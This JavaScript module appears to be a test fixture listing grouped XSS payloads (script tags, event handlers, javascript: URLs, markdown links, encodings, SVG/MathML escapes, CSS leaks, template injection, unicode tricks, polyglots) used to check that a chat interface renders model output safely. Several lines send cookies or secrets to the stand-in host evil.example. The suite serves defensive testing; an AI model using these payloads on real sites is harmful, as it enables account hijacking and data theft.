// XSS payloads for hostile.spec.js, also served by the mock provider (as model output and
// error messages) and the tool server (as a tool result). Everything that can execute tries
// to set window.__pwned (the sentinel the tests read) or to open a dialog; everything that can
// fetch tries evil.example, so a request that leaves 127.0.0.1 fails the test.
//
// Grouped by trick so a gap is easy to see; PAYLOADS is the whole list (each one distinct).

const B64_SCRIPT = btoa("<script>window.__pwned=1</script>");

/** Script elements, and ways of breaking out of a text, attribute or raw-text context first. */
export const SCRIPT_TAGS = [
  `<script>window.__pwned=1</script>`,
  `<SCRIPT>window.__pwned=1</SCRIPT>`,
  `<script src="http://evil.example/x.js"></script>`,
  `<script src=data:text/javascript,window.__pwned=1></script>`,
  `<script>alert(document.domain)</script>`,
  `<script type="module">window.__pwned=1</script>`,
  `<script\n>window.__pwned=1</script\n>`,
  `"><script>window.__pwned=1</script>`,
  `'--><script>window.__pwned=1</script>`,
  `</textarea><script>window.__pwned=1</script>`,
  `</title><script>window.__pwned=1</script>`,
  `</style><script>window.__pwned=1</script>`,
  `<scr<script>ipt>window.__pwned=1</scr</script>ipt>`,
  `<!--<script>-->window.__pwned=1<!--</script>-->`,
  `<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">`,
  "```html\n<script>window.__pwned=1</script>\n```",
  `<template><script>window.__pwned=1</script></template>`,
];

/** Inline event handlers on many elements, most of them firing without a click. */
export const EVENT_HANDLERS = [
  `<img src=x onerror="window.__pwned=1">`,
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC=x OnErRoR=window.__pwned=1>`,
  `<img/src=x/onerror=window.__pwned=1>`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<svg onload="window.__pwned=1"></svg>`,
  `<svg/onload=window.__pwned=1>`,
  `<body onload=window.__pwned=1>`,
  `<body onpageshow=window.__pwned=1>`,
  `<frameset onload=window.__pwned=1>`,
  `<input autofocus onfocus=window.__pwned=1>`,
  `<select autofocus onfocus=window.__pwned=1></select>`,
  `<textarea autofocus onfocus=window.__pwned=1></textarea>`,
  `<xss id=x tabindex=1 autofocus onfocusin=window.__pwned=1></xss>`,
  `<details open ontoggle=window.__pwned=1>`,
  `<dialog open onclose=window.__pwned=1><form method=dialog><button>x</button></form></dialog>`,
  `<video><source onerror=window.__pwned=1></video>`,
  `<audio src=x onerror=window.__pwned=1>`,
  `<video src=x onerror=window.__pwned=1>`,
  `<input type=image src=x onerror=window.__pwned=1>`,
  `<picture><source srcset=x><img onerror=window.__pwned=1></picture>`,
  `<marquee onstart=window.__pwned=1>scroll</marquee>`,
  `<div onmouseover=window.__pwned=1 style="position:fixed;inset:0">hover anywhere</div>`,
  `<button onclick=window.__pwned=1>click</button>`,
  `<a onmouseover=window.__pwned=1>link</a>`,
  `<iframe onload=window.__pwned=1></iframe>`,
  `<object data=x onerror=window.__pwned=1></object>`,
  `<x contenteditable onblur=window.__pwned=1>lose focus`,
  `<style onload=window.__pwned=1></style>`,
  `<link rel=preload as=image href=x onerror=window.__pwned=1>`,
  `<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>`,
  `<body onhashchange=window.__pwned=1>`,
  `<img src=x onerror="fetch('http://evil.example/?c='+document.cookie)">`,
];

/** URLs that run code or load a page of the attacker's choosing. */
export const HOSTILE_URLS = [
  `<a href="javascript:window.__pwned=1">click me</a>`,
  `<a href="JaVaScRiPt:window.__pwned=1">mixed case</a>`,
  `<a href=" javascript:window.__pwned=1">leading space</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<a href="data:text/html;base64,${B64_SCRIPT}">data</a>`,
  `<iframe src="javascript:window.top.__pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src="http://evil.example/"></iframe>`,
  `<iframe src=//evil.example/protocol-relative></iframe>`,
  `<object data="javascript:window.__pwned=1"></object>`,
  `<object data="http://evil.example/x.html"></object>`,
  `<embed src="javascript:window.__pwned=1">`,
  `<embed src="http://evil.example/x.swf">`,
  `<form action="javascript:window.__pwned=1"><button>go</button></form>`,
  `<form action="http://evil.example/steal" method=post><input name=k value=secret><button>send</button></form>`,
  `<form><button formaction=javascript:window.__pwned=1>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
  `<base href="javascript:window.__pwned=1//">`,
  `<base href="http://evil.example/">`,
  `<table background="javascript:window.__pwned=1"><tr><td>t</td></tr></table>`,
  `<portal src="http://evil.example/"></portal>`,
  `<img src="http://evil.example/track.gif">`,
  `<img src=//evil.example/p.gif>`,
  `<img srcset="http://evil.example/s.png 1x">`,
  `<video poster="http://evil.example/p.png"></video>`,
];

/** Markdown links and images (model output is rendered as markdown). */
export const MARKDOWN = [
  `[click](javascript:window.__pwned=1)`,
  `[click](JaVaScRiPt:window.__pwned=1)`,
  `[click](java\tscript:window.__pwned=1)`,
  `[click](&#106;avascript:window.__pwned=1)`,
  `[click](data:text/html,<script>window.__pwned=1</script>)`,
  `[click](vbscript:msgbox(1))`,
  `[click](<javascript:window.__pwned=1>)`,
  `[ref link][evil]\n\n[evil]: javascript:window.__pwned=1`,
  `<javascript:window.__pwned=1>`,
  `[a](http://evil.example/ "x\\" onmouseover=\\"window.__pwned=1")`,
  `![img](http://evil.example/pixel.png)`,
  `![img](javascript:window.__pwned=1)`,
  `![titled](https://evil.example/a.png "title")`,
  `[![nested](http://evil.example/b.png)](javascript:window.__pwned=1)`,
  `![svg](data:image/svg+xml,<svg onload=window.__pwned=1>)`,
  `![ref image][pic]\n\n[pic]: http://evil.example/ref.png`,
];

/** Entities and other encodings that turn into markup or a URL scheme when decoded once too often. */
export const ENCODINGS = [
  `&lt;script&gt;window.__pwned=1&lt;/script&gt;`,
  `&#60;script&#62;window.__pwned=1&#60;/script&#62;`,
  `&#x3C;img src=x onerror=window.__pwned=1&#x3E;`,
  String.raw`\u003cscript\u003ewindow.__pwned=1\u003c/script\u003e`,
  `%3Cscript%3Ewindow.__pwned=1%3C%2Fscript%3E`,
  `<img src=x onerror="&#119;indow.__pwned=1">`,
  `<a href="&#106;avascript:window.__pwned=1">entity</a>`,
  `<a href="jav&#x09;ascript:window.__pwned=1">tab entity</a>`,
  `<a href="javas&#99;ript:window.__pwned=1">decimal entity</a>`,
  `\uff1cscript\uff1ewindow.__pwned=1\uff1c/script\uff1e`,
  `<svg><script>&#x77;indow.__pwned=1</script></svg>`,
  `<img src=x onerror=eval(atob('d2luZG93Ll9fcHduZWQ9MQ=='))>`,
  `+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-`,
];

/** SVG and MathML: foreign content parses differently, the classic sanitizer escape. */
export const SVG_MATHML = [
  `<svg><script>window.__pwned=1</script></svg>`,
  `<svg><a xlink:href="javascript:window.__pwned=1"><text x=20 y=20>click</text></a></svg>`,
  `<svg><a href="javascript:window.__pwned=1"><rect width=100 height=100 /></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='window.__pwned=1'/></svg>#x"/></svg>`,
  `<svg><set attributeName=onmouseover to=window.__pwned=1 /></svg>`,
  `<svg><image href="http://evil.example/i.png"/></svg>`,
  `<svg><style>@import url(http://evil.example/s.css)</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>`,
  `<math href="javascript:window.__pwned=1">click</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:window.__pwned=1">m</maction></math>`,
  `<math><mi xlink:href="data:x,<script>window.__pwned=1</script>">mi</mi></math>`,
  `<svg><desc><![CDATA[</desc><script>window.__pwned=1</script>]]></svg>`,
];

/** CSS: remote loads (tracking, or reading an input's value selector by selector), old IE tricks, overlays. */
export const CSS = [
  `<link rel=stylesheet href="http://evil.example/x.css">`,
  `<style>@import url(http://evil.example/y.css); body{background:url(http://evil.example/z)}</style>`,
  `<div style="background:url(http://evil.example/bg)">styled</div>`,
  `<div style="width:expression(window.__pwned=1)">expression</div>`,
  `<div style="behavior:url(http://evil.example/x.htc)">behavior</div>`,
  `<style>*{background-image:url("javascript:window.__pwned=1")}</style>`,
  `<style>input[value^="sk-"]{background:url(http://evil.example/leak?sk)}</style>`,
  `<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)}body{font-family:x}</style>`,
  `<p style="position:fixed;inset:0;z-index:99999;background:red">overlay</p>`,
  `</style><style>body{display:none}</style>`,
  `@import 'http://evil.example/plain.css';`,
];

/** Template syntaxes: the app's own {{variables}}, and other engines' expressions. */
export const TEMPLATES = [
  `{{constructor.constructor('window.__pwned=1')()}}`,
  `{{7*7}}`,
  `{{ __proto__ }}`,
  `{{#each this}}{{this}}{{/each}}`,
  `\\{{escaped braces}}`,
  `\${window.__pwned=1}`,
  "`${alert(1)}`",
  `<%= window.__pwned=1 %>`,
  `#{window.__pwned=1}`,
  `{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}`,
];

/** Unicode: direction overrides, zero-width characters, look-alikes, BOM, line separators. */
export const UNICODE = [
  `\u202e<script>window.__pwned=1</script>\u202c`,
  `<a href="https://evil.example/\u202egnp.exe">invoice</a>`,
  `[zero width](java\u200bscript:window.__pwned=1)`,
  `<scr\u200bipt>window.__pwned=1</scr\u200bipt>`,
  `\ufeff<script>window.__pwned=1</script>`,
  `<script>\u2028window.__pwned=1\u2029</script>`,
  `[cl\u200dick](javas\u200dcript:window.__pwned=1)`,
  `<a href="https://\u0430pple.com/">apple (Cyrillic a)</a>`,
  `\u2066<img src=x onerror=window.__pwned=1>\u2069`,
];

/** Polyglots that work in several contexts at once. */
export const POLYGLOTS = [
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+window.__pwned=1//'>`,
  `'"><img src=x onerror=window.__pwned=1>{{7*7}}\${7*7}<!--`,
  `<<SCRIPT>window.__pwned=1;//<</SCRIPT>`,
];

export const PAYLOADS = [
  ...SCRIPT_TAGS, ...EVENT_HANDLERS, ...HOSTILE_URLS, ...MARKDOWN, ...ENCODINGS,
  ...SVG_MATHML, ...CSS, ...TEMPLATES, ...UNICODE, ...POLYGLOTS,
];

/** A payload that every text surface must show verbatim (proof it is text, not markup). */
export const PROBE = PAYLOADS[0];

/** The payloads in `n` roughly equal groups, so a few blocks or cases carry all of them. */
export function chunks(n) {
  const size = Math.ceil(PAYLOADS.length / n);
  return Array.from({ length: n }, (_, i) => PAYLOADS.slice(i * size, (i + 1) * size)).filter((c) => c.length);
}
